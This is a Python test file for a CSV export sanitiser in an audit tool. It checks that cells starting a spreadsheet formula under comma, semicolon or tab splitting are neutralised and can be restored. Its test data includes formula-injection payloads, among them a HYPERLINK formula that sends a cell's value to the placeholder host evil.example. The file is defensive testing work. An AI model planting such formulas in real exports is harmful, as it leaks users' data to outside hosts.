"""audit.exports.defuse: no cell of Steward's CSVs starts a formula, wherever a spreadsheet
splits the line (Excel at ',' or, where that is the list separator, at ';'; an import at tabs),
and what it changes can be undone to verify the trail from a CSV export."""

import csv
import io
import re
from pathlib import Path

import pytest

from audit.exports import defuse

SIGNS = ("=", "+", "-", "@")
DOC = Path(__file__).resolve().parents[2] / "docs" / "audit-verification.md"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # a spreadsheet may trim the spaces
    "a;=1+1",
    "a; =1+1",
    "a;\t=1+1",
    "a; \t@SUM(1)",
    "a\t-1+1",
    "=a;+b;-c\t@d",
    "x;y;=1",
    "a,b;=1",  # quoted for its comma, but a ';' field does not start with the quote
    "line one\n=1+1",  # quoted for its line break, which starts a row in the ';' reading
    "notes\r\n  - @SUM(1)",
]
ORDINARY = [
    "Email addresses; Phone numbers",  # the privacy records' and breach CSV's joined lists
    "[0, -1, 2]",  # JSON in the trail's before/after/details: the writer quotes it
    '{"a": -1, "b": "x, =y"}',
    "2026-01-01T00:00:00-05:00",
    "a,=1+1",  # quoted by the writer: nothing splits it
    "Smith; Jones",
    "two lines\nof text",
    "1;2;3",
    "",
]


def _written(cells: list[str]) -> str:
    """One CSV line as Steward's exports write it (csv's default dialect)."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow(cells)
    return buffer.getvalue()


def _formulas(line: str) -> list[str]:
    """The cells a spreadsheet starts as a formula, whether it splits at ',', ';' or tabs:
    quotes count only where they open a field, as in Excel's and LibreOffice's imports, and
    whitespace before the sign is skipped (a spreadsheet may trim it)."""
    found = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter):
            found += [cell for cell in row if cell.lstrip(" \t\r\n")[:1] in SIGNS]
    return found


def _undone(cell: str) -> str:
    """docs/audit-verification.md's way back to the value."""
    if cell[:1] == "'" and cell[1:].lstrip(" ")[:1] in (*SIGNS, "\t", "\r"):
        cell = cell[1:]
    return re.sub(r"(?<=[;\t\r\n])( *)'(?=[=+\-@])", r"\1", cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_no_split_of_the_line_starts_a_formula(value):
    assert _formulas(_written(["ok", value]))
    assert _formulas(_written(["ok", defuse(value)])) == []


def test_a_semicolon_split_ran_a_formula_before():
    """The reviewer's case, as semicolon-locale Excel reads the line: "a" and "=1+1"."""
    assert _formulas(_written(["a;=1+1"])) == ["=1+1"]
    assert defuse("a;=1+1") == "a;'=1+1"


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_values_are_not_changed(value):
    assert defuse(value) == value
    assert _formulas(_written([value])) == []


@pytest.mark.parametrize("value", HOSTILE + ORDINARY)
def test_the_documented_way_back_gives_the_value(value):
    assert _undone(defuse(value)) == value


def test_the_verification_guide_states_the_rule():
    said = " ".join(DOC.read_text().split())
    assert "follows a `;`, a tab or a line break" in said
    assert "drop a leading `'` when the next character (after any spaces) is one of those" in said
